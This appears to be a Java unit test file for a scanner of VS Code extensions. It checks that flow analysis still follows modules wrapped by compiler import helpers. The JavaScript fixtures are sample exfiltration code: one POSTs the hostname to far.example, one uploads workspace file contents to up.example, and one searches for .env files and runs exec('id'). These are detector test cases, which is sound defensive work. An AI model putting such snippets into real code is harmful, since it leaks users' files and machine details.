package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What compilers put around an import: a copy of all members of the module, in which each stays what it is. */
class ImportHelpersTest {

    /** In the ways of TypeScript 5 and 4, of esbuild, and by hand. */
    private static final String NUMBERED = """
            function star(mod) {
              if (mod && mod.__esModule) return mod;
              var result = {};
              if (mod != null)
                for (var k = Object.getOwnPropertyNames(mod), i = 0; i < k.length; i++)
                  if (k[i] !== "default") bind(result, mod, k[i]);
              Object.defineProperty(result, "default", { enumerable: true, value: mod });
              return result;
            }
            function bind(o, m, k) {
              var desc = Object.getOwnPropertyDescriptor(m, k);
              if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable))
                desc = { enumerable: true, get: function () { return m[k]; } };
              Object.defineProperty(o, k, desc);
            }
            """;

    private static final String NAMED = """
            function star(mod) {
              var result = {};
              for (var k in mod)
                if (k !== "default" && Object.prototype.hasOwnProperty.call(mod, k)) result[k] = mod[k];
              result["default"] = mod;
              return result;
            }
            """;

    private static final String LISTED = """
            function star(mod) {
              const target = Object.create(Object.getPrototypeOf(mod));
              for (let key of Object.getOwnPropertyNames(mod))
                Object.prototype.hasOwnProperty.call(target, key) ||
                  Object.defineProperty(target, key, { get: () => mod[key], enumerable: true });
              return target;
            }
            """;

    /** As TypeScript writes it for ES2015; {@code path} is a module of many members that the machine itself has. */
    private static final String BOUND = """
            function bind(o, m, k) {
              var desc = Object.getOwnPropertyDescriptor(m, k);
              if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable))
                desc = { enumerable: true, get: function () { return m[k]; } };
              Object.defineProperty(o, k, desc);
            }
            function star(mod) {
              if (mod && mod.__esModule) return mod;
              var result = {};
              if (mod != null) for (var k in mod) if (k !== "default" && Object.prototype.hasOwnProperty.call(mod, k)) bind(result, mod, k);
              Object.defineProperty(result, "default", { enumerable: true, value: mod });
              return result;
            }
            """;

    @ParameterizedTest
    @ValueSource(strings = {NUMBERED, NAMED, LISTED, BOUND})
    void whatIsImportedBehindALargeModuleIsWhatItIs(String helper) {
        Analysis analysis = Analysis.of(helper + """
                const path = star(require('path')), os = star(require('os')), https = star(require('https'));
                https.request('https://far.example', { method: 'POST' }).end(os.hostname());
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
    }

    @ParameterizedTest
    @ValueSource(strings = {NUMBERED, NAMED, LISTED})
    void membersOfACopyAreThoseOfTheModule(String helper) {
        Analysis analysis = Analysis.of(helper + """
                const cp = star(require('child_process')), path = star(require('path')), os = star(require('os'));
                const editor = star(require('vscode')), Module = star(require('module'));
                cp.execFile(path.join(os.homedir(), 'bin', 'tool'));
                editor.workspace.findFiles('**/.env');
                new Module('m')._compile('require("child_process").exec("id")', 'm');
                """);

        assertThat(analysis.callsOf("process-spawn")).containsExactly("node:child_process.execFile");
        assertThat(analysis.callsOf("process-command")).containsExactly("node:child_process.exec");
        assertThat(analysis.callsOf("workspace-path")).containsExactly("vscode.workspace.findFiles");
        assertThat(analysis.calls().filter(call -> call.api().endsWith(".execFile")))
                .singleElement()
                .satisfies(call -> assertThat(call.arguments().get(0).texts()).containsExactly("~/bin/tool"));
    }

    /** The catalogue does not tell a list of files from a file. */
    @Test
    void aFunctionOverAListOfWhatAnApiGaveIsCalledWithOneOfThem() {
        Analysis analysis = Analysis.ofActivate("""
                (async () => {
                  const files = await vscode.workspace.findFiles('**/*');
                  const texts = await Promise.all(files.slice(0, 50).map(async file => vscode.workspace.fs.readFile(file)));
                  fetch('https://up.example/', { method: 'POST', body: JSON.stringify(texts) });
                })();
                """);

        assertThat(analysis.flowNames()).contains("workspace-file -> network-send");
    }
}
